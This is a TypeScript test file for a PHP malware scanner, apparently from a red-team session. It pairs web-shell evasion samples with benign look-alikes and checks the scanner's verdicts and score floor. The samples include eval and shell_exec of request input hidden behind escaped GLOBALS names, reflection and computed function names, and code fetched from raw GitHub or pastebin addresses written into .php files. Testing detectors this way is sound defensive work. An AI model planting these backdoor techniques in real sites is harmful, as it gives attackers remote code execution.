/**
 * Red team s24 of 544779a and eb2a6f0 (ten PHP rules, mamori_php_small_dynamic_exec, Finding.floor):
 * evasions a real attacker would write, benign look-alikes, and the floor's score. Samples are our
 * own. bench/redteam/README-s24.md has the findings table.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);

type Expect = 'malicious' | 'flagged' | 'not-malicious' | 'clean';
// [finding id (a todo) or undefined (a property that holds), what, the PHP, what it should be]
const CASES: [string | undefined, string, string, Expect][] = [
  [undefined, "S24R-5 (this variant fixed here): mamori_php_request_code_file: the opening tag written \"<?php\\n\" (an escaped newline), then request input", "<?php\nfile_put_contents('tmp_view.php', \"<?php\\n\" . $_POST['body']);\ninclude 'tmp_view.php';\n", "malicious"],
  [undefined, "S24R-5 (fixed in session 25): mamori_php_request_code_file: request input put in a variable first", "<?php\n$b = $_POST['body'];\nfile_put_contents('tmp_view.php', '<?php ' . $b);\ninclude 'tmp_view.php';\n", "malicious"],
  [undefined, "S24R-5 (this variant fixed here): mamori_php_request_code_file: the short echo tag \"<?= \"", "<?php\nfile_put_contents('p.php', '<?= ' . $_GET['x'] . ' ?>');\ninclude 'p.php';\n", "malicious"],
  [undefined, "S24R-5 (fixed in session 25): mamori_php_request_code_file: request input inside a double-quoted string, \"<?php {$_POST[..]}\"", "<?php\nfile_put_contents(__DIR__ . '/page.php', \"<?php {$_POST['body']}\");\ninclude __DIR__ . '/page.php';\n", "malicious"],
  [undefined, "S24R-5 (fixed in session 25): mamori_php_request_code_file: sprintf('<?php %s', $_POST[..])", "<?php\nfile_put_contents('tmp_view.php', sprintf('<?php %s', $_POST['body']));\ninclude 'tmp_view.php';\n", "malicious"],
  [undefined, "S24R-6 (fixed in session 25): mamori_php_paste_site_code: the raw address split in two literals", "<?php\n$page = file_get_contents('https://raw.' . 'githubusercontent.com/someone/tools/main/panel.php');\neval('?>' . $page);\n", "malicious"],
  [undefined, "S24R-6 (this part fixed here): mamori_php_paste_site_code: copy() of a raw file straight into a .php file", "<?php\ncopy('https://raw.githubusercontent.com/someone/tools/main/panel.txt', __DIR__ . '/panel.php');\n", "malicious"],
  [undefined, "S24R-7 (fixed in session 25): mamori_php_defined_vars_input: get_defined_vars() put in a variable, then [_POST]", "<?php $v = get_defined_vars(); assert($v['_POST']['x']);\n", "malicious"],
  [undefined, "S24R-8 (fixed in session 25): mamori_php_eval_fetched: implode(file(decoded address)) instead of file_get_contents", "<?php\neval(implode('', file(base64_decode('aHR0cDovL2V4YW1wbGUub3JnL2EudHh0'))));\n", "malicious"],
  [undefined, "S24R-9 (fixed in session 25): mamori_php_escaped_globals_name: GLOBALS in octal escapes", "<?php ${\"\\107\\114\\117\\102\\101\\114\\123\"}[\"zq\"] = \"\\137\\120\\117\\123\\124\"; if (isset(${${\"\\107LOBALS\"}[\"zq\"]}[\"run\"])) echo shell_exec(${${\"GL\\117BALS\"}[\"zq\"]}[\"run\"]);\n", "malicious"],
  [undefined, "S24R-9 (fixed in session 25): mamori_php_escaped_globals_name: GLOBALS in \\u{..} escapes", "<?php ${\"\\u{47}\\u{4c}OBALS\"}[\"zq\"] = \"_POST\"; if (isset(${${\"\\u{47}LOBALS\"}[\"zq\"]}[\"run\"])) echo shell_exec(${${\"GLOBALS\"}[\"zq\"]}[\"run\"]);\n", "malicious"],
  [undefined, "S24R-9 (fixed in session 26): mamori_php_escaped_globals_name: the escaped name held in a variable, ${$g}", "<?php $g = \"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53\"; ${$g}[\"zq\"] = \"\\x5f\\x50\\x4f\\x53\\x54\"; $in = ${${$g}[\"zq\"]}; echo shell_exec($in[\"run\"]);\n", "malicious"],
  [undefined, "S24R-10 (fixed in session 25): mamori_php_reference_laundered_eval and the floor: eval(\"$q\") (the variable in a double-quoted string)", "<?php\n$w = &$v;\n$v = $_REQUEST['z'];\n$q = &$w;\neval(\"$q\");\n", "malicious"],
  [undefined, "S24R-10 (fixed in session 25): mamori_php_reference_laundered_eval and the floor: eval of a heredoc holding the variable", "<?php\n$w = &$v;\n$v = $_REQUEST['z'];\n$q = &$w;\neval(<<<X\n$q\nX);\n", "malicious"],
  [undefined, "S24R-11 (fixed in session 25): mamori_php_small_dynamic_exec: a doc-comment name (preg_replace, not letters picked) padded past 3 KB with a comment", "<?php\n/**\n * s y s t e m\n */\nfunction holder() {}\n$r = new ReflectionFunction('holder');\n$d = preg_replace('/[^a-z]/', '', $r->getDocComment());\n$arg = $_GET['a'];\n$d($arg);\n// lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet lorem ipsum dolor sit amet \n", "flagged"],
  [undefined, "S24R-11 (fixed in session 25): mamori_php_small_dynamic_exec: a name built at run time, called through (new ReflectionFunction(..))->invoke($_GET[..])", "<?php\n$f = new ReflectionFunction(pick());\n$f->invoke($_GET['c']);\nfunction pick() { return implode('', array_reverse(['m', 'e', 't', 's', 'y', 's'])); }\n", "flagged"],
  [undefined, "S24R-11 (fixed in session 25): mamori_php_small_dynamic_exec: Closure::fromCallable(a computed name)->__invoke($_GET[..])", "<?php\n$g = Closure::fromCallable(pick());\necho $g->__invoke($_GET['c']);\nfunction pick() { return implode('', array_reverse(['m', 'e', 't', 's', 'y', 's'])); }\n", "flagged"],
  [undefined, "S24R-11 (fixed in session 25): mamori_php_small_dynamic_exec: register_shutdown_function(a computed name, $_GET[..])", "<?php\nregister_shutdown_function(pick(), $_GET['c']);\nfunction pick() { return implode('', array_reverse(['m', 'e', 't', 's', 'y', 's'])); }\n", "flagged"],
  [undefined, "S24R-12 (fixed in session 25): mamori_php_doc_comment_name: the name cleaned out of the doc comment with preg_replace, not picked letter by letter (suspicious 40 only, by the floor)", "<?php\n/**\n * s y s t e m\n */\nfunction holder() {}\n$r = new ReflectionFunction('holder');\n$d = preg_replace('/[^a-z]/', '', $r->getDocComment());\n$arg = $_GET['a'];\n$d($arg);\n", "malicious"],
  [undefined, "S24R-12 (fixed in session 26): mamori_php_string_increment_names: letters incremented in a loop (one $_++), or in named variables (suspicious only)", "<?php\n$_ = 'a';\nfor ($i = 0; $i < 18; $i++) $_++;\n$f = $_ . 'ystem';\n$f($_GET['c']);\n", "malicious"],
  [undefined, "S24R-12 (fixed in session 26): mamori_php_string_increment_names: letters incremented in named variables", "<?php\n$a = 'r'; $a++;\n$b = 'x'; $b++;\n$c = 's' . $b . $a . 't' . 'em';\n$c($_GET['c']);\n", "malicious"],
  [undefined, "S24R-12 (fixed in session 25): mamori_php_computed_callee_input: (chr(115) . 'ystem')($_POST[..]) (chr is not in its list; suspicious 35 only)", "<?php\n(chr(115) . 'ystem')($_POST['c']);\n", "malicious"],
  [undefined, "S24R-12 (fixed in session 25): mamori_php_reference_laundered_eval: the reference into an array element (suspicious 40 only, by the floor)", "<?php\n$box = [];\n$w = &$box['a'];\n$box['a'] = $_REQUEST['z'];\n$q = &$w;\neval($q);\n", "malicious"],
  [undefined, "S24R-13 (fixed here): mamori_php_paste_site_code: a changelog from a raw repository file cached under DOCUMENT_ROOT (a .md, not code)", "<?php\n// Shows the project's changelog, cached for an hour under the site's cache folder.\n$cache = $_SERVER['DOCUMENT_ROOT'] . '/cache/changelog.md';\nif (!is_file($cache) || filemtime($cache) < time() - 3600) {\n    $md = file_get_contents('https://raw.githubusercontent.com/acme/widget/main/CHANGELOG.md');\n    if ($md !== false) file_put_contents($cache, $md);\n}\necho '<pre>' . htmlspecialchars((string) file_get_contents($cache)) . '</pre>';\n", "not-malicious"],
  [undefined, "S24R-13 (fixed here): mamori_php_paste_site_code: a version check that logs with fwrite, in a page that includes header.php (any quoted .php)", "<?php\nrequire_once 'header.php';\n$ver = @file_get_contents('https://raw.githubusercontent.com/acme/widget/main/VERSION');\n$log = fopen(__DIR__ . '/logs/version-check.log', 'a');\nfwrite($log, date('c') . ' latest=' . trim((string) $ver) . \"\\n\");\nfclose($log);\necho 'Latest version: ' . htmlspecialchars(trim((string) $ver));\nrequire_once 'footer.php';\n", "not-malicious"],
  [undefined, "S24R-13 (fixed here): mamori_php_paste_site_code: language files (.json) updated from the repository, in a page that includes a .php", "<?php\n// Admin-only: updates the language files from the project's repository.\nif (!current_user_can('manage_options')) exit;\nforeach (['de', 'fr', 'ja'] as $lang) {\n    $json = file_get_contents(\"https://raw.githubusercontent.com/acme/widget/main/lang/$lang.json\");\n    if ($json !== false && json_decode($json) !== null) file_put_contents(__DIR__ . \"/lang/$lang.json\", $json);\n}\ninclude 'admin-footer.php';\n", "not-malicious"],
  [undefined, "S24R-14 (fixed in session 24): mamori_php_defined_vars_input: a debug panel reading get_defined_vars()['_SERVER'] and calling collectors (no size bound, the sink anywhere)", "<?php\n// Debug panel of a small framework: lists the request and runs the registered collectors.\nfunction debug_panel(array $collectors) {\n    $server = get_defined_vars()['_SERVER'] ?? $_SERVER;\n    $out = [];\n    foreach ($collectors as $name => $collector) {\n        $out[$name] = call_user_func($collector, $server);\n    }\n    return $out;\n}\n", "not-malicious"],
  [undefined, "S24R-15 (fixed in session 24): mamori_php_superglobal_by_name: a form handler reading $$source and validating with a configured callback", "<?php\n// A small form handler: reads from GET or POST as configured, validates with the given callback.\n$source = '_POST';\n$data = $$source;\n$validator = $config['validator'] ?? 'trim';\n$clean = call_user_func($validator, $data['name'] ?? '');\necho htmlspecialchars($clean);\n", "not-malicious"],
  [undefined, "S24R-16 (fixed in session 24): mamori_php_small_dynamic_exec: a CORS middleware calling $next($request) and reading HTTP_ORIGIN", "<?php\n// CORS middleware for the API.\nreturn function ($request, callable $next) {\n    $origin = $_SERVER['HTTP_ORIGIN'] ?? '';\n    if (in_array($origin, ['https://app.example.com'], true)) {\n        header('Access-Control-Allow-Origin: ' . $origin);\n    }\n    return $next($request);\n};\n", "clean"],
  [undefined, "S24R-16 (fixed in session 24): mamori_php_small_dynamic_exec: a front controller calling action_<name>($_POST) after function_exists", "<?php\nrequire __DIR__ . '/actions.php';\n$action = preg_replace('/[^a-z_]/', '', $_GET['action'] ?? 'index');\n$fn = 'action_' . $action;\nif (!function_exists($fn)) { http_response_code(404); exit; }\n$fn($_POST);\n", "clean"],
  [undefined, "S24R-16 (fixed in session 24): mamori_php_small_dynamic_exec: a webhook calling its handler from a map with the payload of php://input", "<?php\n$payload = json_decode(file_get_contents('php://input'), true);\n$event = $_SERVER['HTTP_X_GITHUB_EVENT'] ?? '';\n$handlers = require __DIR__ . '/handlers.php';\n$handler = $handlers[$event] ?? null;\nif ($handler) $handler($payload);\necho 'ok';\n", "clean"],
  [undefined, "S24R-16 (fixed in session 24): mamori_php_small_dynamic_exec: validation rules from a literal map, call_user_func($check, $_POST[..]) in a foreach", "<?php\n$rules = ['email' => 'is_email', 'age' => 'is_numeric'];\nforeach ($rules as $field => $check) {\n    if (!call_user_func($check, $_POST[$field] ?? '')) $errors[] = $field;\n}\n", "clean"],
  [undefined, "S24R-16 (fixed in session 24): mamori_php_small_dynamic_exec: a formatter picked from a map and called with rows", "<?php\n$sort = $_GET['sort'] ?? 'name';\n$cmp = fn($a, $b) => strcmp($a[$sort], $b[$sort]);\nusort($rows, $cmp);\n$format = $formatters[$sort];\necho $format($rows);\n", "clean"],
  [undefined, "S24R-16 (fixed in session 24): mamori_php_small_dynamic_exec: call_user_func(get_option(..), $q), a filter from settings", "<?php\n$q = $_GET['q'] ?? '';\necho call_user_func(get_option('search_filter', 'trim'), $q);\n", "clean"],
  [undefined, "S24R-16 (fixed in session 24): mamori_php_small_dynamic_exec: a template engine with filters, $filter($v), beside eval('?>' . $php) (clean at eb2a6f0, whose file-wide template exclusion S24R-19 removed: suspicious 40 now)", "<?php\n// A tiny template engine with filters: {{ name|upper }}.\nfunction render(string $tpl, array $vars, array $filters): string {\n    $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $tpl);\n    foreach ($vars as $k => $v) {\n        foreach ($filters[$k] ?? [] as $filter) $v = $filter($v);\n        $vars[$k] = $v;\n    }\n    extract($vars);\n    ob_start();\n    eval('?>' . $php);\n    return ob_get_clean();\n}\necho render(file_get_contents(__DIR__ . '/page.tpl'), ['q' => $_GET['q'] ?? ''], ['q' => ['trim', 'strtoupper']]);\n", "clean"],
  [undefined, "S24R-17 (fixed in session 24): mamori_php_escaped_globals_name: PHP 4 style ${\"\\x6c..\"} and ${${..}} globals with call_user_func('htmlspecialchars')", "<?php\n// old PHP 4 style i18n globals\n${\"\\x6c\\x61\\x6e\\x67\"} = 'en';\n${${'lang'} . '_strings'} = ['hi' => 'Hello'];\necho call_user_func('htmlspecialchars', $en_strings['hi']);\n", "not-malicious"],
  [undefined, "S24R-18 (fixed in session 24): mamori_php_doc_comment_name: an annotation router (preg_match of @route, $p[1] . $p[2] as the route's key) calling the handler with $_GET['id'] (malicious 100; 000849d: suspicious 35)", "<?php\nfinal class Router {\n    /** @var array<string, callable> */\n    private array $routes = [];\n    public function load(string $class): void {\n        $rc = new ReflectionClass($class);\n        foreach ($rc->getMethods() as $m) {\n            $doc = (string) $m->getDocComment();\n            if (!preg_match('/@route\\s+(GET|POST)\\s+(\\S+)/', $doc, $p)) continue;\n            $this->routes[$p[1] . $p[2]] = [new $class(), $m->getName()];\n        }\n    }\n    public function dispatch(): void {\n        $key = $_SERVER['REQUEST_METHOD'] . parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);\n        $handler = $this->routes[$key] ?? null;\n        if ($handler === null) { http_response_code(404); return; }\n        echo $handler($_GET['id'] ?? null);\n    }\n}\n", "not-malicious"],
  [undefined, "S24R-13's fix keeps: a .php path in a variable, the fetched code written to it", "<?php\n$t = $_SERVER['DOCUMENT_ROOT'] . '/wp-content/cache.php';\n$code = file_get_contents('https://raw.githubusercontent.com/someone/tools/main/a.txt');\nfile_put_contents($t, $code);\n", "malicious"],
  [undefined, "S24R-13's fix keeps: the web root in the fopen of the write, the name in a variable", "<?php\n$name = 'helper' . '.php';\n$body = file_get_contents('https://gist.githubusercontent.com/someone/abc/raw/x');\n$out = fopen($_SERVER['DOCUMENT_ROOT'] . '/' . $name, 'w');\nfwrite($out, $body);\nfclose($out);\n", "malicious"],
  [undefined, "S24R-13's fix keeps: rename of the fetched file to a .php", "<?php\n$tmp = tempnam('/tmp', 'u');\nfile_put_contents($tmp, file_get_contents('https://pastebin.com/raw/Zz9Yy8Xx'));\nrename($tmp, __DIR__ . '/up.php');\n", "malicious"],
  [undefined, "an installer writing config.php with var_export of the form", "<?php\n// Installer, step 3: writes config.php from the form.\n$cfg = \"<?php\\n\";\nforeach (['db_host', 'db_name', 'db_user', 'db_pass'] as $k) {\n    $cfg .= '$' . $k . ' = ' . var_export((string) ($_POST[$k] ?? ''), true) . \";\\n\";\n}\nfile_put_contents(__DIR__ . '/../config.php', $cfg);\nheader('Location: step4.php');\n", "clean"],
  [undefined, "a template engine's eval('?>' . $php)", "<?php\n// A tiny template engine: compiles {{ x }} to PHP and runs it.\nfunction render(string $tpl, array $vars): string {\n    $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $tpl);\n    extract($vars);\n    ob_start();\n    eval('?>' . $php);\n    return ob_get_clean();\n}\necho render(file_get_contents(__DIR__ . '/page.tpl'), ['q' => $_GET['q'] ?? '']);\n", "clean"],
  [undefined, "a template engine's eval(' ?>' . $php . '<?php ')", "<?php\nfunction render(string $tpl, array $vars): string {\n    $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $tpl);\n    extract($vars);\n    ob_start();\n    eval(' ?>' . $php . '<?php ');\n    return ob_get_clean();\n}\necho render(file_get_contents(__DIR__ . '/page.tpl'), ['q' => $_GET['q'] ?? '']);\n", "clean"],
  [undefined, "an annotation router reading @route from doc comments", "<?php\nfinal class Router {\n    /** @var array<string, callable> */\n    private array $routes = [];\n    public function load(string $class): void {\n        $rc = new ReflectionClass($class);\n        foreach ($rc->getMethods() as $m) {\n            $doc = (string) $m->getDocComment();\n            if (!preg_match('/@route\\s+(GET|POST)\\s+(\\S+)/', $doc, $p)) continue;\n            $this->routes[$p[1] . $p[2]] = [new $class(), $m->getName()];\n        }\n    }\n    public function dispatch(): void {\n        $key = $_SERVER['REQUEST_METHOD'] . parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH);\n        $handler = $this->routes[$key] ?? null;\n        if ($handler === null) { http_response_code(404); return; }\n        echo $handler($_GET);\n    }\n}\n", "clean"],
  [undefined, "a JSON-RPC endpoint with call_user_func_array([$api, ..])", "<?php\n// JSON-RPC endpoint: methods are the public methods of the Api class.\n$req = json_decode(file_get_contents('php://input'), true);\n$api = new Api();\nif (!is_callable([$api, $req['method']])) exit;\necho json_encode(call_user_func_array([$api, $req['method']], $req['params']));\n", "clean"],
  [undefined, "an event emitter calling listeners with $_GET", "<?php\n$listeners = [];\nfunction on($e, callable $cb) { global $listeners; $listeners[$e][] = $cb; }\nfunction emit($e, $data) { global $listeners; foreach ($listeners[$e] ?? [] as $cb) $cb($data); }\nemit('request', $_GET);\n", "clean"],
  [undefined, "mamori_php_request_code_file: <?PHP in capitals (nocase)", "<?php\nfile_put_contents('tmp_view.php', '<?PHP ' . $_POST['body']);\ninclude 'tmp_view.php';\n", "malicious"],
  [undefined, "mamori_php_paste_site_code: a raw file saved to a temporary file and included", "<?php\n$page = file_get_contents('https://raw.githubusercontent.com/someone/tools/main/panel.php');\n$t = tempnam(sys_get_temp_dir(), 'x');\nfile_put_contents($t, $page);\ninclude $t;\n", "malicious"],
  [undefined, "mamori_php_defined_vars_input: get_defined_vars()['_' . 'POST']", "<?php eval(get_defined_vars()['_' . 'POST']['x']);\n", "malicious"],
  [undefined, "mamori_php_computed_callee_input: (strrev(strtolower('METSYS')))($_REQUEST[..])", "<?php\n(strrev(strtolower('METSYS')))($_REQUEST['c']);\n", "malicious"],
  [undefined, "a gitlab raw address fetched and run (the flow analysis)", "<?php\n$page = file_get_contents('https://gitlab.com/someone/tools/-/raw/main/panel.php');\neval('?>' . $page);\n", "malicious"],
  [undefined, "eval(\"$v\") of request input (the flow analysis)", "<?php\n$v = $_REQUEST['z'];\neval(\"$v\");\n", "malicious"],

];

describe('scan: red team s24, the new PHP rules', () => {
  for (const [id, what, src, expect] of CASES) {
    it(`${id ? `${id}: ` : ''}${expect}: ${what}`, id ? { todo: id } : {}, () => {
      const r = scan(src);
      const why = JSON.stringify({ verdict: r.verdict, score: r.score, findings: r.findings.map((f) => `${f.rule} ${f.score}${f.floor ? ' floor' : ''}`) });
      if (expect === 'malicious') assert.equal(r.verdict, 'malicious', why);
      else if (expect === 'flagged') assert.notEqual(r.verdict, 'clean', why);
      else if (expect === 'not-malicious') assert.notEqual(r.verdict, 'malicious', why);
      else assert.equal(r.verdict, 'clean', why);
    });
  }
});

// (a name taken from an object, called with request input: the floor alone finds it; the
// front controller first used here is clean since S24R-16's fix)
const FLOOR_ONLY = "<?php\n$k = $_POST['k'];\n$fn = $cfg->get('handler');\n$fn($k);\n";

describe('scan: red team s24, the floor (Finding.floor, scoreOf)', () => {
  it('S24R-4 (fixed here): a floor that matches only in a comment no longer takes the weights under the threshold with it (25 at 000849d, 0 at eb2a6f0)', () => {
    const src = "<?php\n/* how not to do it:\n   include 'data://text/plain;base64,' . base64_encode($x);\n   $f = $_GET['f']; $f($x);\n*/\necho 'hello';\n";
    const r = scan(src);
    assert.equal(r.score, 25, JSON.stringify(r.findings));
    assert.ok(r.findings.some((f) => f.rule === 'mamori_php_include_data'));
    assert.ok(!r.findings.some((f) => f.floor), 'the floor, only in a comment, is dropped');
  });

  it('a floor does not stack on a weight: 35 and a floor of 40 score 40, not 75', () => {
    // (over 1 KB: in a tiny file, a name cut out of text and called with request input is a finding of its own, session 35)
    const r = scan(`<?php\n/**\n * xxsystemxx\n * ${'notes '.repeat(180)}\n */\nclass Doc {}\n$r = new ReflectionClass('Doc');\n$t = $r->getDocComment();\n$fn = substr($t, 9, 6);\n$fn($_GET['a']);\n`);
    assert.deepEqual(r.findings.map((f) => [f.rule, f.score, f.floor === true]).sort(), [
      ['mamori:small-dynamic-exec', 40, true],
      ['mamori_php_variable_function_input', 35, false],
    ]);
    assert.equal(r.score, 40);
    assert.equal(r.verdict, 'suspicious');
  });

  it("a floor in code beside weights in a comment: the score is at least the floor, and the comment's weights under the threshold are left as at 000849d", () => {
    const src = FLOOR_ONLY.replace('<?php\n', "<?php\n/* include 'data://text/plain;base64,' . $x; */\n");
    const r = scan(src);
    assert.ok(r.score >= 40, JSON.stringify(r.findings));
    assert.notEqual(r.verdict, 'malicious');
  });

  it('a floor finding in two tar members: the archive scores its worst member, the floors do not add up', () => {
    const tarEntry = (name: string, body: string): Buffer => {
      const h = Buffer.alloc(512);
      h.write(name, 0, 'latin1');
      h.write('0000644\0', 100, 'latin1');
      h.write('0000000\0', 108, 'latin1');
      h.write('0000000\0', 116, 'latin1');
      h.write(body.length.toString(8).padStart(11, '0') + '\0', 124, 'latin1');
      h.write('00000000000\0', 136, 'latin1');
      h.write('        ', 148, 'latin1');
      h.write('0', 156, 'latin1');
      h.write('ustar\0' + '00', 257, 'latin1');
      let sum = 0;
      for (const b of h) sum += b;
      h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148, 'latin1');
      const data = Buffer.alloc(Math.ceil(body.length / 512) * 512);
      data.write(body, 0, 'latin1');
      return Buffer.concat([h, data]);
    };
    const small = FLOOR_ONLY;
    const tar = Buffer.concat([tarEntry('a.php', small), tarEntry('b.php', small), Buffer.alloc(1024)]);
    const r = scanner.scanBuffer(tar, '/backup/site.tar');
    assert.equal(r.score, 40, JSON.stringify(r));
    assert.equal(r.findings.filter((f) => f.floor).length, 2);
  });

  it("S24R-19 (fixed here): \"eval('?>' . \" in a comment no longer turns the floor off for the whole file (its template exclusion is now d1's own)", () => {
    for (const src of ["<?php\n/**\n * s y s t e m\n */\nfunction holder() {}\n$r = new ReflectionFunction('holder');\n$d = preg_replace('/[^a-z]/', '', $r->getDocComment());\n$arg = $_GET['a'];\n$d($arg);\n// see also: eval('?>' . $tpl) in the template helper\n", "<?php\n$box = [];\n$w = &$box['a'];\n$box['a'] = $_REQUEST['z'];\n$q = &$w;\neval($q);\n/* eval('?>' . $view) */\n"]) {
      const r = scan(src);
      assert.ok(r.findings.some((f) => f.rule === 'mamori:small-dynamic-exec' && f.floor), JSON.stringify(r.findings));
      assert.notEqual(r.verdict, 'clean');
    }
    // and a template compiled to PHP, run with eval('?>' . $php), is still clean
    assert.equal(scan("<?php\n// A tiny template engine: compiles {{ x }} to PHP and runs it.\nfunction render(string $tpl, array $vars): string {\n    $php = preg_replace('/\\{\\{\\s*(\\w+)\\s*\\}\\}/', '<?= htmlspecialchars($$1) ?>', $tpl);\n    extract($vars);\n    ob_start();\n    eval('?>' . $php);\n    return ob_get_clean();\n}\necho render(file_get_contents(__DIR__ . '/page.tpl'), ['q' => $_GET['q'] ?? '']);\n").verdict, 'clean');
  });
});
